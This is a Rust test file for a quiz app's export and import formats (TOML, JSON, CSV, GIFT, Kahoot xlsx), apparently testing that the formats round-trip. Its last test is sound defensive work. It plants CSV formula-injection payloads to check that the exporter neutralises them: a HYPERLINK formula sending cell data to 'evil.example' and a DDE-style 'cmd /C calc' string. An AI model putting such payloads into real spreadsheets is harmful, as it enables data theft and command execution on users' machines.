//! Export then import. A proptest over generated quizzes of every question
//! kind shows the native TOML and JSON formats lose nothing; the real binary then exports stored
//! quizzes in every export format and imports them back, checking what
//! each format keeps.

mod import_support;

use import_support::{fixture, quizbox, stored};
use proptest::prelude::*;
use quizbox::quiz::formats::{self, ExportFormat, Format};
use quizbox::quiz::{Question, QuestionKind, Quiz};

/// Text with the characters formats escape: quotes, backslashes, braces,
/// GIFT's markers (`//`, `->`, `$`, `%`), new lines, non-ASCII; never blank.
fn text() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9 \"'\\\\{}#=~:/>$%\n\té€😀-]{0,12}[a-zA-Z0-9é😀?]{1,3}"
}

/// An answer: any text, or a small number that could be mistaken for an
/// answer's position.
fn answer() -> impl Strategy<Value = String> {
    prop_oneof![3 => text(), 1 => "[1-8]"]
}

/// 2 to `max` distinct answers, in a shuffled order.
fn distinct_texts(max: usize) -> impl Strategy<Value = Vec<String>> {
    prop::collection::btree_set(answer(), 2..=max)
        .prop_map(|set| set.into_iter().collect::<Vec<_>>())
        .prop_shuffle()
}

/// A slider that validates, at most 1,000 positions: numbers as people
/// write them (up to three decimals, any sign) or any fractions at all.
fn slider() -> impl Strategy<Value = QuestionKind> {
    let thousandths = |n: i64| n as f64 / 1000.0;
    let written = (-1_000_000i64..1_000_000, 1i64..=5000, 1i64..=1000).prop_map(
        move |(min, step, positions)| {
            (
                thousandths(min),
                thousandths(min + step * positions),
                thousandths(step),
            )
        },
    );
    let any = (-1000.0f64..1000.0, 0.001f64..1000.0, 1u32..=1000)
        .prop_map(|(min, span, k)| (min, min + span, span / k as f64));
    (
        prop_oneof![written, any],
        0.0f64..=1.0,
        0.0f64..=0.25,
        prop::option::of(text()),
    )
        .prop_map(|((min, max, step), at, tol, unit)| QuestionKind::Slider {
            min,
            max,
            step,
            correct: (min + at * (max - min)).clamp(min, max),
            tolerance: tol * (max - min),
            unit,
        })
}

/// Every kind, with valid fields.
fn kind() -> impl Strategy<Value = QuestionKind> {
    prop_oneof![
        (distinct_texts(6), any::<prop::sample::Index>()).prop_map(|(answers, correct)| {
            QuestionKind::Single {
                correct: correct.index(answers.len()),
                answers,
            }
        }),
        (distinct_texts(6), prop::collection::vec(any::<bool>(), 6)).prop_map(
            |(answers, ticks)| {
                // At least one correct answer: the first when nothing is ticked.
                let mut correct: Vec<usize> = (0..answers.len()).filter(|&i| ticks[i]).collect();
                if correct.is_empty() {
                    correct.push(0);
                }
                QuestionKind::Multi { answers, correct }
            }
        ),
        any::<bool>().prop_map(|correct| QuestionKind::TrueFalse { correct }),
        (prop::collection::vec(text(), 1..4), any::<bool>()).prop_map(
            |(accepted, typo_tolerance)| QuestionKind::TypeAnswer {
                accepted,
                typo_tolerance,
            }
        ),
        slider(),
        distinct_texts(8).prop_map(|items| QuestionKind::Ordering { items }),
        distinct_texts(6).prop_map(|answers| QuestionKind::Poll { answers }),
        (1u32..=100).prop_map(|max_length| QuestionKind::WordCloud { max_length }),
        prop::option::of(text()).prop_map(|body| QuestionKind::Slide { body }),
    ]
}

fn question() -> impl Strategy<Value = Question> {
    (
        text(),
        kind(),
        5u32..=240,
        prop_oneof![Just(0u32), Just(1000), Just(2000), 0u32..1_000_000],
        prop::option::of(text()),
        prop::option::of(prop_oneof![
            "/media/[a-z0-9-]{1,12}\\.(png|jpg|mp4)",
            text()
        ]),
    )
        .prop_map(
            |(text, kind, time_limit, points, explanation, media)| Question {
                text,
                kind,
                time_limit,
                points,
                explanation,
                media,
            },
        )
}

fn quiz() -> impl Strategy<Value = Quiz> {
    (
        "[a-z0-9]([a-z0-9-]{0,30}[a-z0-9])?",
        text(),
        prop::option::of(text()),
        prop::collection::vec(question(), 1..8),
    )
        .prop_map(|(id, title, description, questions)| Quiz {
            rounds: Vec::new(),
            id,
            title,
            description,
            questions,
        })
}

fn round_trip(export: ExportFormat, import: Format, quizzes: &[Quiz]) -> Vec<Quiz> {
    let (bytes, warnings) = formats::write(export, quizzes).unwrap();
    assert!(warnings.is_empty(), "{warnings:?}");
    let out = formats::parse(import, &bytes, "ignored-stem");
    assert!(
        out.errors.is_empty(),
        "{:?}\n{}",
        out.errors,
        String::from_utf8_lossy(&bytes)
    );
    assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    out.quizzes
}

/// `quiz` with every text trimmed, as CSV cells are.
fn trimmed(mut quiz: Quiz) -> Quiz {
    let trim = |s: &mut String| *s = s.trim().to_string();
    let trim_all = |v: &mut Vec<String>| v.iter_mut().for_each(|s| *s = s.trim().to_string());
    trim(&mut quiz.title);
    quiz.description.as_mut().map(trim);
    for q in &mut quiz.questions {
        trim(&mut q.text);
        q.explanation.as_mut().map(trim);
        q.media.as_mut().map(trim);
        match &mut q.kind {
            QuestionKind::Single { answers, .. }
            | QuestionKind::Multi { answers, .. }
            | QuestionKind::Poll { answers } => trim_all(answers),
            QuestionKind::TypeAnswer { accepted, .. } => trim_all(accepted),
            QuestionKind::Ordering { items } => trim_all(items),
            QuestionKind::Slider { unit, .. } => {
                unit.as_mut().map(trim);
            }
            QuestionKind::Slide { body } => {
                body.as_mut().map(trim);
            }
            QuestionKind::TrueFalse { .. } | QuestionKind::WordCloud { .. } => {}
        }
    }
    quiz
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn csv_is_lossless_but_for_surrounding_spaces(quizzes in prop::collection::vec(quiz(), 1..4)) {
        let mut quizzes: Vec<Quiz> = quizzes.into_iter().map(trimmed).collect();
        // Trimming can make two answers equal.
        prop_assume!(quizzes.iter().all(|q| q.validate(&|_| None).is_empty()));
        for (i, q) in quizzes.iter_mut().enumerate() {
            q.id = format!("{}-{i}", q.id);
        }
        let back = round_trip(ExportFormat::Csv, Format::Csv, &quizzes);
        prop_assert_eq!(back, quizzes);
    }

    #[test]
    fn native_toml_is_lossless(quiz in quiz()) {
        let back = round_trip(ExportFormat::Toml, Format::Toml, std::slice::from_ref(&quiz));
        prop_assert_eq!(back, vec![quiz]);
    }

    #[test]
    fn native_json_is_lossless(quizzes in prop::collection::vec(quiz(), 1..4)) {
        // Ids must differ for several quizzes in one file to mean anything.
        let mut quizzes = quizzes;
        for (i, q) in quizzes.iter_mut().enumerate() {
            q.id = format!("{}-{i}", q.id);
        }
        let back = round_trip(ExportFormat::Json, Format::Json, &quizzes);
        prop_assert_eq!(back, quizzes);
    }
}

/// Imports the fixtures, exports `world` in `format` with the binary, and
/// imports the file into a fresh data directory.
fn export_and_reimport(format: &str) -> (Quiz, Quiz, String) {
    let data = tempfile::tempdir().unwrap();
    let file = fixture("import/solar.toml");
    assert_eq!(
        quizbox(data.path(), &["import", file.to_str().unwrap()]).code,
        0
    );
    let out = data.path().join(format!("solar-toml.{format}"));
    let run = quizbox(
        data.path(),
        &[
            "export",
            "solar-toml",
            "--format",
            format,
            "-o",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let fresh = tempfile::tempdir().unwrap();
    let run = quizbox(fresh.path(), &["import", out.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let original = stored(data.path(), "solar-toml");
    let back = import_support::rows(fresh.path())
        .into_iter()
        .map(|r| serde_json::from_str::<Quiz>(&r.3).unwrap())
        .next()
        .unwrap();
    (original, back, run.stderr)
}

#[test]
fn binary_export_formats_read_back() {
    for format in ["toml", "json", "csv"] {
        let (original, back, _) = export_and_reimport(format);
        assert_eq!(back, original, "{format}");
    }
    // GIFT keeps text, answers and explanations; time limits and points fall back to defaults.
    let (original, back, _) = export_and_reimport("gift");
    assert_eq!(back.title, original.title);
    for (a, b) in original.questions.iter().zip(&back.questions) {
        assert_eq!(
            (&a.text, &a.kind, &a.explanation),
            (&b.text, &b.kind, &b.explanation)
        );
        assert_eq!((b.time_limit, b.points), (20, 1000));
    }
    // Kahoot's template keeps text, answers and time limits; the id comes from the file name.
    let (original, back, _) = export_and_reimport("xlsx");
    assert_eq!(back.id, "solar-toml");
    for (a, b) in original.questions.iter().zip(&back.questions) {
        assert_eq!(
            (&a.text, &a.kind, a.time_limit),
            (&b.text, &b.kind, b.time_limit)
        );
        assert_eq!((b.points, &b.explanation), (1000, &None));
    }
}

#[test]
fn export_all_to_a_directory_and_to_stdout() {
    let data = tempfile::tempdir().unwrap();
    let dir = fixture("import");
    let run = quizbox(data.path(), &["import", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let count = import_support::rows(data.path()).len();
    let out = data.path().join("exported/");
    let run = quizbox(
        data.path(),
        &[
            "export",
            "--all",
            "-o",
            out.to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), count);
    // Several quizzes in one CSV on stdout; TOML refuses without a directory.
    let run = quizbox(
        data.path(),
        &["export", "europe", "asia", "--format", "csv"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let parsed = formats::parse(Format::Csv, run.stdout.as_bytes(), "x");
    assert_eq!(parsed.quizzes.len(), 2, "{:?}", parsed.errors);
    let run = quizbox(data.path(), &["export", "europe", "asia"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("give -o a directory"), "{}", run.stderr);
    let run = quizbox(data.path(), &["export", "nope"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("no quiz with id \"nope\""),
        "{}",
        run.stderr
    );
}

/// Imports the sample quiz with every kind and the JSON fixture with every
/// kind (media, a slider unit, named points), exports quiz `id` in `format`
/// with the binary and imports the file into a fresh data directory.
/// Returns the stored original, what came back, and the export's warnings.
fn every_kind_through(format: &str, id: &str) -> (Quiz, Quiz, Vec<String>) {
    let data = tempfile::tempdir().unwrap();
    let sample = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("quizzes/every-kind.toml");
    let json = fixture("import/every-kind.json");
    let run = quizbox(
        data.path(),
        &["import", sample.to_str().unwrap(), json.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let out = data.path().join(format!("{id}.{format}"));
    let run = quizbox(
        data.path(),
        &[
            "export",
            id,
            "--format",
            format,
            "-o",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let warnings = run
        .stderr
        .lines()
        .filter_map(|l| l.strip_prefix("warning: "))
        .map(String::from)
        .collect();
    let fresh = tempfile::tempdir().unwrap();
    let run = quizbox(fresh.path(), &["import", out.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows = import_support::rows(fresh.path());
    assert_eq!(rows.len(), 1);
    let back = serde_json::from_str::<Quiz>(&rows[0].3).unwrap();
    (stored(data.path(), id), back, warnings)
}

#[test]
fn every_kind_survives_the_native_formats_and_csv() {
    for format in ["toml", "json", "csv"] {
        for id in ["every-kind", "every-kind-json"] {
            let (original, back, warnings) = every_kind_through(format, id);
            assert_eq!(back, original, "{format} {id}");
            assert_eq!(warnings, Vec::<String>::new(), "{format} {id}");
        }
    }
}

#[test]
fn gift_keeps_every_kind_but_polls_and_names_what_it_loses() {
    let (original, back, warnings) = every_kind_through("gift", "every-kind");
    assert_eq!(
        warnings,
        [
            "every-kind: 2 question(s) have their own time limit or points, which GIFT cannot hold",
            "every-kind: question 1 \"Welcome to the solar system tour\": the slide's body is not kept (a GIFT description is its text alone)",
            "every-kind: question 5 \"What is the largest planet in the solar …\": typo tolerance is not kept (a GIFT short answer is matched exactly)",
            "every-kind: question 6 \"How many moons of Mars are known?\": the slider's range, step and unit are not kept (a GIFT numerical answer holds the value and its tolerance)",
            "every-kind: question 8 \"Which planet would you visit first?\": left out: GIFT has no unscored poll",
        ]
    );
    // Everything but the poll comes back, with texts and explanations.
    let kept: Vec<&Question> = original
        .questions
        .iter()
        .filter(|q| q.kind.name() != "poll")
        .collect();
    assert_eq!(back.questions.len(), kept.len());
    for (a, b) in kept.iter().zip(&back.questions) {
        assert_eq!((&a.text, &a.explanation), (&b.text, &b.explanation));
        assert_eq!((b.time_limit, b.points), (20, 1000));
        match (&a.kind, &b.kind) {
            (QuestionKind::Slide { .. }, QuestionKind::Slide { body }) => assert_eq!(body, &None),
            (
                QuestionKind::TypeAnswer { accepted, .. },
                QuestionKind::TypeAnswer {
                    accepted: back,
                    typo_tolerance,
                },
            ) => assert_eq!((back, *typo_tolerance), (accepted, false)),
            // 2 moons ± 0 reads back as a slider from 0 to 10 in steps of 1:
            // the original range.
            (a, b) => assert_eq!(a, b),
        }
    }

    // A slider's range is chosen afresh; media and a word cloud's length are lost.
    let (original, back, warnings) = every_kind_through("gift", "every-kind-json");
    assert!(
        warnings.contains(
            &"every-kind-json: 2 question(s) have media, which GIFT cannot hold".to_string()
        ),
        "{warnings:?}"
    );
    assert!(
        warnings.contains(&"every-kind-json: question 9 \"One word for space?\": the word cloud's longest entry (12 characters) is not kept (a GIFT essay has none; reading it back gives 20)".to_string()),
        "{warnings:?}"
    );
    assert_eq!(
        back.questions[5].kind,
        QuestionKind::Slider {
            min: 0.0,
            max: 1000.0,
            step: 1.0,
            correct: 460.0,
            tolerance: 20.0,
            unit: None
        }
    );
    assert_eq!(original.questions[2].kind, back.questions[2].kind);
    assert_eq!(
        back.questions[7].kind,
        QuestionKind::WordCloud { max_length: 20 }
    );
    assert!(back.questions.iter().all(|q| q.media.is_none()));
}

#[test]
fn kahoot_spreadsheet_keeps_choice_kinds_and_names_the_rest() {
    let (original, back, warnings) = every_kind_through("xlsx", "every-kind");
    let left_out = |n: usize, text: &str, kind: &str| {
        format!(
            "every-kind: question {n} \"{text}\": left out: the template has no {kind} questions"
        )
    };
    assert_eq!(
        warnings,
        [
            left_out(1, "Welcome to the solar system tour", "slide"),
            left_out(
                5,
                "What is the largest planet in the solar …",
                "type answer"
            ),
            left_out(6, "How many moons of Mars are known?", "slider"),
            left_out(7, "Put these planets in order from the Sun,…", "ordering"),
            left_out(8, "Which planet would you visit first?", "poll"),
            left_out(9, "One word for the night sky?", "word cloud"),
            "every-kind: 3 explanation(s) are left out (the template has no column for them)"
                .to_string(),
        ]
    );
    let kinds: Vec<&QuestionKind> = back.questions.iter().map(|q| &q.kind).collect();
    assert_eq!(
        kinds,
        [
            &original.questions[1].kind,
            &original.questions[2].kind,
            &original.questions[3].kind
        ]
    );
    assert_eq!(
        back.questions[2].kind,
        QuestionKind::TrueFalse { correct: true }
    );
}

/// What GIFT keeps of `quiz`: the kinds it holds, trimmed texts, typo
/// tolerance off, word clouds of 20, slides without a body, and the
/// default time limit and points.
fn as_gift_keeps(quiz: Quiz) -> Quiz {
    let mut quiz = trimmed(quiz);
    // A category name is one line, and `/` separates its parts.
    quiz.title = quiz.title.replace('/', "-").replace(['\n', '\r'], " ");
    quiz.questions.retain(|q| match &q.kind {
        QuestionKind::Poll { .. } | QuestionKind::Slider { .. } => false,
        // Only `=` answers that all hold `->` read as matching.
        QuestionKind::TypeAnswer { accepted, .. } => !accepted.iter().all(|a| a.contains("->")),
        _ => true,
    });
    for q in &mut quiz.questions {
        q.time_limit = 20;
        q.points = 1000;
        q.media = None;
        match &mut q.kind {
            QuestionKind::TypeAnswer { typo_tolerance, .. } => *typo_tolerance = false,
            QuestionKind::WordCloud { max_length } => *max_length = 20,
            QuestionKind::Slide { body } => {
                *body = None;
                q.explanation = None;
            }
            _ => {}
        }
    }
    quiz
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn gift_keeps_what_it_holds(quiz in quiz()) {
        let quiz = as_gift_keeps(quiz);
        prop_assume!(quiz.validate(&|_| None).is_empty());
        let (bytes, _) = formats::write(ExportFormat::Gift, std::slice::from_ref(&quiz)).unwrap();
        let out = formats::parse(Format::Gift, &bytes, "ignored-stem");
        prop_assert!(out.errors.is_empty(), "{:?}\n{}", out.errors, String::from_utf8_lossy(&bytes));
        prop_assert_eq!(&out.quizzes[0].title, &quiz.title);
        prop_assert_eq!(&out.quizzes[0].questions, &quiz.questions, "{}", String::from_utf8_lossy(&bytes));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn kahoot_spreadsheet_keeps_choice_kinds(quiz in quiz()) {
        // What the template holds: single, multi with several correct
        // answers, true/false; trimmed texts, time limits, 1000 points.
        let mut quiz = trimmed(quiz);
        quiz.questions.retain(|q| match &q.kind {
            QuestionKind::Single { .. } | QuestionKind::TrueFalse { .. } => true,
            QuestionKind::Multi { correct, .. } => correct.len() > 1,
            _ => false,
        });
        for q in &mut quiz.questions {
            q.points = 1000;
            q.explanation = None;
            q.media = None;
            if let QuestionKind::Multi { correct, .. } = &mut q.kind {
                correct.sort_unstable();
            }
        }
        prop_assume!(quiz.validate(&|_| None).is_empty());
        let (bytes, warnings) = formats::write(ExportFormat::Xlsx, std::slice::from_ref(&quiz)).unwrap();
        prop_assert!(warnings.iter().all(|w| w.contains("5-6 answers")), "{:?}", warnings);
        let out = formats::parse(Format::Xlsx, &bytes, "ignored-stem");
        prop_assert!(out.errors.is_empty(), "{:?}", out.errors);
        prop_assert_eq!(&out.quizzes[0].questions, &quiz.questions);
    }
}

#[test]
fn csv_export_puts_an_apostrophe_before_formulas_and_reads_back_the_same_text() {
    let data = tempfile::tempdir().unwrap();
    let source = data.path().join("formulas.toml");
    std::fs::write(
        &source,
        r#"id = "formulas"
title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answers")'
description = "@SUM(1+1)*cmd|' /C calc'!A0"

[[questions]]
text = "+1 or -1?"
answers = ["-1", "+1", "'=already behind an apostrophe", "'Tis plain"]
correct = "-1"
explanation = "=1+1"

[[questions]]
kind = "slider"
text = "How cold is it?"
min = -10
max = 10
correct = -5
unit = "-°C"

[[questions]]
kind = "slide"
text = "Tab"
body = "\t=2+2"
"#,
    )
    .unwrap();
    let run = quizbox(data.path(), &["import", source.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let run = quizbox(data.path(), &["export", "formulas", "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);

    // No text cell starts a formula; numbers stay numbers.
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let mut guarded = Vec::new();
    for record in reader.records() {
        for (column, cell) in header.iter().zip(record.unwrap().iter()) {
            if cell.parse::<f64>().is_ok() {
                continue;
            }
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {cell:?}\n{}",
                run.stdout
            );
            if cell.starts_with('\'') {
                guarded.push(format!("{column}: {cell}"));
            }
        }
    }
    assert_eq!(
        guarded,
        [
            "quiz_title: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the answers\")",
            "quiz_description: '@SUM(1+1)*cmd|' /C calc'!A0",
            "question: '+1 or -1?",
            "answer1: '-1",
            "answer2: '+1",
            "answer3: ''=already behind an apostrophe",
            "answer4: 'Tis plain",
            "explanation: '=1+1",
            "quiz_title: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the answers\")",
            "quiz_description: '@SUM(1+1)*cmd|' /C calc'!A0",
            "unit: '-°C",
            "quiz_title: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the answers\")",
            "quiz_description: '@SUM(1+1)*cmd|' /C calc'!A0",
            "body: '\t=2+2",
        ]
    );

    // Read back, every text is what was stored.
    let parsed = formats::parse(Format::Csv, run.stdout.as_bytes(), "x");
    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
    assert_eq!(parsed.quizzes, [stored(data.path(), "formulas")]);
}
